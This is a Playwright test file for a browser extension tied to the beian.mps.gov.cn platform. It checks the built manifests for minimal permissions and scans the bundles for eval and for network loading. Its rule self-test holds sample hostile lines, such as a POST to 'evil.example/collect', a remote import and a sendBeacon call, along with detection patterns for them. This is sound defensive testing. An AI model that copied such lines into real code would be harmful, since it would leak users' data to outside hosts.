// Hardening: reads the BUILT extension (no browser). The manifests ask for nothing beyond storage and the filing
// platform; the bundles contain no eval, no string-compiled code and load nothing remote. Runs after `npm run build`.
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { expect, test } from '@playwright/test';

const BUILDS = { chrome: path.resolve('.output/chrome-mv3'), firefox: path.resolve('.output/firefox-mv2') };
const HOST = 'https://beian.mps.gov.cn/*';
const API_PERMISSIONS = ['storage', 'unlimitedStorage'];

type Manifest = Record<string, unknown> & { manifest_version: number };
const manifestOf = (dir: string): Manifest => JSON.parse(readFileSync(path.join(dir, 'manifest.json'), 'utf8'));
const filesOf = (dir: string): string[] =>
  readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .map((f) => path.join(dir, f))
    .filter((f) => /\.(m?js|html)$/.test(f));

// Keys that would widen what the extension can reach or who can reach it; none is needed.
const FORBIDDEN_KEYS = ['optional_permissions', 'optional_host_permissions', 'externally_connectable', 'sandbox'];

for (const [browser, dir] of Object.entries(BUILDS)) {
  test.describe(`${browser} manifest`, () => {
    const m = manifestOf(dir);

    test('permissions are storage/unlimitedStorage and the platform host, nothing else', () => {
      const perms = (m.permissions as string[] | undefined) ?? [];
      // MV2 lists hosts among permissions; MV3 keeps them in host_permissions.
      const hosts =
        m.manifest_version === 2 ? perms.filter((p) => p.includes('://')) : (m.host_permissions as string[]);
      expect(perms.filter((p) => !p.includes('://')).every((p) => API_PERMISSIONS.includes(p))).toBe(true);
      expect(perms.filter((p) => !p.includes('://'))).toEqual(expect.arrayContaining(['storage']));
      expect(hosts).toEqual([HOST]);
      if (m.manifest_version === 3) expect(perms.some((p) => p.includes('://') || p === '<all_urls>')).toBe(false);
      for (const key of FORBIDDEN_KEYS) expect(m, key).not.toHaveProperty(key);
    });

    test('content scripts match only the platform; only the panel page is web-accessible, to the platform only', () => {
      const scripts = (m.content_scripts as { matches: string[]; exclude_matches?: string[] }[]) ?? [];
      expect(scripts.length).toBeGreaterThan(0);
      for (const s of scripts) expect(s.matches).toEqual([HOST]);
      // The panel's frame. Chrome: for the platform's pages only, under a per-session id. Firefox MV2 has only a
      // list of paths (the moz-extension id is random per install, and the page never sees the frame's URL).
      if (m.manifest_version === 3) {
        expect(m.web_accessible_resources).toEqual([
          { resources: ['panel.html'], matches: [HOST], use_dynamic_url: true },
        ]);
      } else {
        expect(m.web_accessible_resources).toEqual(['panel.html']);
      }
    });

    test('no content security policy that allows eval or remote code', () => {
      // The allow-listed zod probe below is harmless only because the default CSP forbids eval: keep it that way.
      const csp = m.content_security_policy;
      const text = typeof csp === 'string' ? csp : JSON.stringify(csp ?? '');
      expect(text).not.toMatch(/unsafe-eval|https?:|\*/);
    });

    if (browser === 'firefox') {
      test('gecko settings declare no data collection, with the Firefox versions that key needs', () => {
        const settings = m.browser_specific_settings as Record<string, Record<string, unknown>> | undefined;
        const gecko = settings?.gecko;
        expect(gecko?.id).toEqual(expect.any(String));
        expect(gecko?.data_collection_permissions).toEqual({ required: ['none'] });
        // data_collection_permissions exists from Firefox 140 (Android 142): older versions would ignore it.
        expect(gecko?.strict_min_version).toBe('140.0');
        expect(settings?.gecko_android?.strict_min_version).toBe('142.0');
      });
    }
  });
}

interface Rule {
  name: string;
  pattern: RegExp;
}
// Code that runs strings, or loads code or data from the network. Aliases count: `let e=Function;new e(…)`.
const RULES: Rule[] = [
  { name: 'eval', pattern: /(?<![\w$.])eval\s*\(|(?<![\w$.])eval(?=\s*[,;)\]])/g },
  { name: 'Function constructor', pattern: /(?<![\w$.'"`])Function(?![\w$'"`])(?!\s*\.)/g },
  { name: 'timer with a string', pattern: /set(?:Timeout|Interval)\s*\(\s*["'`]/g },
  { name: 'remote import', pattern: /\bimport(?:Scripts)?\s*\(\s*["'`](?:https?:)?\/\//g },
  {
    name: 'request to a literal URL',
    pattern:
      /\b(?:fetch|sendBeacon|WebSocket|EventSource|Worker|open)\s*\(\s*(?:["'`][A-Z]+["'`]\s*,\s*)?["'`](?:https?|wss?):/g,
  },
  {
    name: 'remote script or style in HTML',
    pattern: /<(?:script|link|iframe|img)\b[^>]*\b(?:src|href)\s*=\s*["']?(?:https?:)?\/\//gi,
  },
  { name: 'literal URL', pattern: /\b(?:https?|wss?|ftp):\/\/[^\s"'`)\\]*/g },
];

interface Allowed {
  rule: string;
  /** Matched against the 80 characters either side of the hit: pins the exact occurrence. */
  context: RegExp;
  why: string;
}
const ALLOWED: Allowed[] = [
  {
    rule: 'Function constructor',
    context: /try\{return Function\(``\),!0\}catch\{return!1\}/,
    why: 'zod 4 probes whether eval works (util.allowsEval); the extension CSP forbids it, so the probe throws and zod stays on its non-eval path',
  },
  {
    rule: 'Function constructor',
    context: /compile\(\)\{let \w+=Function,/,
    why: 'zod 4 Doc.compile (its JIT), used only when the probe above succeeds, which the extension CSP prevents',
  },
  {
    rule: 'literal URL',
    context: /https:\/\/beian\.mps\.gov\.cn(\/\*|\/#\/query\/webSearch|[`'"])/,
    why: 'the platform: match pattern, 查询 link and origin check, shown or compared, never fetched',
  },
  {
    rule: 'literal URL',
    context: /http:\/\/www\.w3\.org\/(1998\/Math\/MathML|1999\/xhtml|2000\/svg)/,
    why: 'DOM namespace names (Preact/WXT createElementNS)',
  },
  {
    rule: 'literal URL',
    context: /https?:\/\/json-schema\.org\//,
    why: 'zod toJSONSchema $schema identifiers: text written into the schema',
  },
  {
    rule: 'literal URL',
    context: /new URL\(`http:\/\/\$\{\w+\}\/`\)|`http:\/\/\[\$\{\w+\}\]`/,
    why: 'tldts/zod parse a host name via new URL; nothing is requested',
  },
  {
    rule: 'literal URL',
    context: /只填写域名，不要带 http:\/\/ 或路径/,
    why: 'our own rule message telling the user to leave the scheme out of a domain',
  },
  {
    rule: 'literal URL',
    context: /https:\/\/(wxt\.dev\/guide|github\.com\/wxt-dev\/wxt\/issues\/371)/,
    why: 'links inside WXT error messages',
  },
];

test('built JS and HTML: no eval, no string-compiled code, nothing loaded from the network', () => {
  const hits: string[] = [];
  const used = new Set<Allowed>();
  for (const dir of Object.values(BUILDS)) {
    const files = filesOf(dir);
    expect(files.some((f) => f.endsWith('background.js'))).toBe(true);
    for (const file of files) {
      const text = readFileSync(file, 'utf8');
      for (const rule of RULES) {
        for (const m of text.matchAll(rule.pattern)) {
          const at = m.index ?? 0;
          const context = text.slice(Math.max(0, at - 80), at + m[0].length + 80);
          const allowed = ALLOWED.find((a) => a.rule === rule.name && a.context.test(context));
          if (allowed) used.add(allowed);
          else hits.push(`${path.relative(process.cwd(), file)}: ${rule.name}: …${context}…`);
        }
      }
    }
  }
  expect(hits).toEqual([]);
  // A stale entry would quietly allow a future occurrence: every entry must still be needed.
  expect(ALLOWED.filter((a) => !used.has(a)).map((a) => a.why)).toEqual([]);
});

test('the rules catch what they are for', () => {
  const bad = [
    'eval("1")',
    'let e=eval;',
    'new Function("return 1")',
    'let e=Function,t=1;new e("x")',
    'setTimeout("alert(1)",1)',
    'import("https://cdn.example.com/x.js")',
    'fetch(`https://api.example.com/`)',
    'x.open("POST","https://evil.example/collect")',
    'navigator.sendBeacon("https://t.example/")',
    '<script src="https://cdn.example.com/a.js"></script>',
  ];
  for (const code of bad)
    expect(
      RULES.some((r) => new RegExp(r.pattern.source, r.pattern.flags).test(code)),
      code,
    ).toBe(true);
  const fine = ['Function.call.bind(x)', 'inspectedWindow:{eval:{minArgs:1}}', 'setTimeout(()=>f(),1)', 'fetch(url)'];
  for (const code of fine)
    expect(
      RULES.some((r) => new RegExp(r.pattern.source, r.pattern.flags).test(code)),
      code,
    ).toBe(false);
});
